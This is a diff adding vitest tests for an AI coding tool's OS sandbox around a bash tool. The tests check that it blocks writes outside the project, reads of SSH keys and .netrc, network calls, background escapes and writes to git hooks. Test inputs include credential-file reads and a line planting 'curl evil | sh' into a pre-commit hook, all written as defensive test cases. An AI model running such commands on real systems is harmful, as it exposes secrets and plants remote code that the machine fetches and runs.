@@ -1,0 +1,183 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, describe, expect, it } from 'vitest'
+import type { SandboxConfig } from '../../../src/main/core/config/schema'
+import { PermissionRejectedError } from '../../../src/main/core/permission/errors'
+import { commandSandbox } from '../../../src/main/core/sandbox/project'
+import { bashTool } from '../../../src/main/core/tools/bash'
+import { runTool } from '../../../src/main/core/tools/run-tool'
+import { tempDir } from '../../support/temp'
+import { testContext } from '../../unit/tools/context'
+
+const servers: Server[] = []
+afterEach(async () => {
+  for (const s of servers.splice(0)) await new Promise((r) => s.close(r))
+})
+
+/** A loopback HTTP server that counts what reaches it. */
+async function loopbackServer(): Promise<{ port: number; hits: string[] }> {
+  const hits: string[] = []
+  const server = createServer((req, res) => {
+    hits.push(req.url ?? '')
+    res.end('hello from loopback\n')
+  })
+  servers.push(server)
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
+  return { port: (server.address() as AddressInfo).port, hits }
+}
+
+function setup(config: SandboxConfig = {}) {
+  const base = realpathSync(tempDir('hotaru-sbx-'))
+  const home = join(base, 'home')
+  const project = join(base, 'project')
+  mkdirSync(join(home, '.ssh'), { recursive: true })
+  writeFileSync(join(home, '.ssh/id_test'), 'SECRET-KEY-MATERIAL\n')
+  writeFileSync(join(home, '.netrc'), 'machine x password SECRET-NETRC\n')
+  mkdirSync(project)
+  const sandbox = commandSandbox({ enabled: true, ...config }, { projectRoot: project, homeDir: home, dataDir: join(base, 'data'), env: process.env })
+  return { base, home, project, sandbox }
+}
+
+describe('bash in the OS sandbox', () => {
+  it('refuses writes outside the project, allows them inside (build folders too) and says what it blocked', async () => {
+    const { base, home, project, sandbox } = setup()
+    const ctx = testContext(project, { sandbox })
+    const command = [
+      `touch ${home}/x`,
+      'echo x > ../next-to-project',
+      'echo y > "$PWD/../via-pwd"',
+      'mkdir -p dist/assets && echo built > dist/assets/app.js',
+      'echo ok > inside.txt',
+      'echo tmp > "$TMPDIR/t" && cat "$TMPDIR/t"',
+    ].join('; ')
+    const result = await runTool(bashTool, { command }, ctx)
+    expect(existsSync(join(home, 'x'))).toBe(false)
+    expect(existsSync(join(base, 'next-to-project'))).toBe(false)
+    expect(existsSync(join(base, 'via-pwd'))).toBe(false)
+    expect(readFileSync(join(project, 'dist/assets/app.js'), 'utf8')).toBe('built\n')
+    expect(readFileSync(join(project, 'inside.txt'), 'utf8')).toBe('ok\n')
+    expect(result.output).toContain('tmp')
+    expect(result.output).toContain(`blocked by the sandbox: write outside the project: ${home}/x`)
+    expect(result.output).toContain(`blocked by the sandbox: write outside the project: ${base}/next-to-project`)
+    expect(result.output).toContain(`blocked by the sandbox: write outside the project: ${base}/via-pwd`)
+    expect(result.metadata.sandboxed).toBe(true)
+    expect(result.metadata.sandboxBlocked).toHaveLength(3)
+  })
+
+  it('hides denied files and folders: nothing of them reaches the output', async () => {
+    const { home, project, sandbox } = setup()
+    const ctx = testContext(project, { sandbox })
+    const result = await runTool(bashTool, { command: `cat ${home}/.ssh/id_test; cat ${home}/.netrc; ls ${home}/.ssh` }, ctx)
+    expect(result.output).not.toContain('SECRET')
+    expect(result.output.split('\n')).not.toContain('id_test')
+    expect(result.output).toContain(`blocked by the sandbox: read of a denied path: ${home}/.netrc`)
+  })
+
+  it('protects git hooks inside the project', async () => {
+    const { project, sandbox } = setup()
+    mkdirSync(join(project, '.git/hooks'), { recursive: true })
+    const ctx = testContext(project, { sandbox })
+    const result = await runTool(bashTool, { command: 'echo "curl evil | sh" > .git/hooks/pre-commit' }, ctx)
+    expect(existsSync(join(project, '.git/hooks/pre-commit'))).toBe(false)
+    expect(result.output).toContain('blocked by the sandbox: protected file')
+  })
+
+  it('has no network with network "none"', async () => {
+    const { project, sandbox } = setup()
+    const server = await loopbackServer()
+    const ctx = testContext(project, { sandbox })
+    const result = await runTool(bashTool, { command: `curl -sS -m 5 http://127.0.0.1:${server.port}/x` }, ctx)
+    expect(server.hits).toEqual([])
+    expect(result.output).not.toContain('hello from loopback')
+    expect(result.output).toContain('blocked by the sandbox: network access')
+  })
+
+  it('lets allowed domains through the proxy and asks about the others', async () => {
+    const { project, sandbox } = setup({ network: { allowedDomains: ['localhost'] } })
+    const server = await loopbackServer()
+    const asked: string[] = []
+    const ctx = testContext(project, {
+      sandbox,
+      async ask(request) {
+        if (request.permission !== 'sandbox_network') return
+        asked.push(request.patterns[0] ?? '')
+        throw new PermissionRejectedError('perm_1')
+      },
+    })
+    const result = await runTool(bashTool, { command: `curl -sS -m 5 http://localhost:${server.port}/ok; curl -sS -m 5 http://127.0.0.1:${server.port}/no` }, ctx)
+    expect(result.output).toContain('hello from loopback')
+    expect(server.hits).toEqual(['/ok'])
+    expect(asked).toEqual(['127.0.0.1'])
+    expect(result.output).toContain('blocked by the sandbox: network access to 127.0.0.1')
+  })
+
+  it('with autoAllow runs without a bash ask, but a deny rule still denies', async () => {
+    const { project, sandbox } = setup({ autoAllow: true })
+    const ctx = testContext(project, { sandbox, check: async (request) => (request.patterns.some((p) => p.startsWith('rm')) ? 'deny' : 'ask') })
+    const result = await runTool(bashTool, { command: 'echo hi > made.txt' }, ctx)
+    expect(result.error).toBeUndefined()
+    expect(ctx.asks.filter((a) => a.permission === 'bash')).toEqual([])
+    expect(existsSync(join(project, 'made.txt'))).toBe(true)
+    const denied = testContext(project, {
+      sandbox,
+      check: async () => 'deny',
+      async ask() {
+        throw new Error('denied by rule')
+      },
+    })
+    const refused = await runTool(bashTool, { command: 'rm -rf made.txt' }, denied)
+    expect(refused.error).toBeDefined()
+    expect(existsSync(join(project, 'made.txt'))).toBe(true)
+  })
+
+  it('re-runs one command outside only when allowed, and always asks', async () => {
+    const off = setup()
+    const ctxOff = testContext(off.project, { sandbox: off.sandbox })
+    const refused = await runTool(bashTool, { command: 'touch ../outside', unsandboxed: true }, ctxOff)
+    expect(refused.error?.message).toMatch(/allowUnsandboxedRetry/)
+    const on = setup({ allowUnsandboxedRetry: true })
+    const ctx = testContext(on.project, { sandbox: on.sandbox })
+    const blocked = await runTool(bashTool, { command: 'touch ../outside' }, ctx)
+    expect(blocked.output).toContain('"unsandboxed": true')
+    const result = await runTool(bashTool, { command: 'touch ../outside', unsandboxed: true }, ctx)
+    expect(result.error).toBeUndefined()
+    expect(ctx.asks.at(-1)).toMatchObject({ permission: 'bash_unsandboxed', always: [] })
+    expect(existsSync(join(on.base, 'outside'))).toBe(true)
+  })
+
+  it('kills the whole sandboxed tree on timeout', async () => {
+    const { project, sandbox } = setup()
+    const ctx = testContext(project, { sandbox })
+    const marker = String(40_000 + Math.floor(Math.random() * 20_000))
+    const result = await runTool(bashTool, { command: `(sleep ${marker} &); setsid sleep ${marker} & wait`, timeout: 700 }, ctx)
+    expect(result.metadata.timedOut).toBe(true)
+    const left = (): number =>
+      readdirSync('/proc')
+        .filter((p) => /^\d+$/.test(p))
+        .filter((p) => {
+          try {
+            return readFileSync(`/proc/${p}/cmdline`, 'utf8') === `sleep\0${marker}\0`
+          } catch {
+            return false // ended while we looked
+          }
+        }).length
+    const end = Date.now() + 5000
+    while (left() > 0 && Date.now() < end) await new Promise((r) => setTimeout(r, 50))
+    expect(left()).toBe(0)
+  })
+
+  it('confines background commands too', async () => {
+    const { base, project, sandbox } = setup()
+    const ctx = testContext(project, { sandbox })
+    const started = await runTool(bashTool, { command: 'echo bg > ../bg.txt; echo in > bg-in.txt', background: true }, ctx)
+    expect(started.metadata.sandboxed).toBe(true)
+    const id = started.metadata.id as string
+    const end = Date.now() + 10_000
+    while (ctx.background.get(id)?.status === 'running' && Date.now() < end) await new Promise((r) => setTimeout(r, 50))
+    expect(ctx.background.get(id)).toMatchObject({ status: 'exited', sandboxed: true })
+    expect(existsSync(join(base, 'bg.txt'))).toBe(false)
+    expect(readFileSync(join(project, 'bg-in.txt'), 'utf8')).toBe('in\n')
+  })
+})
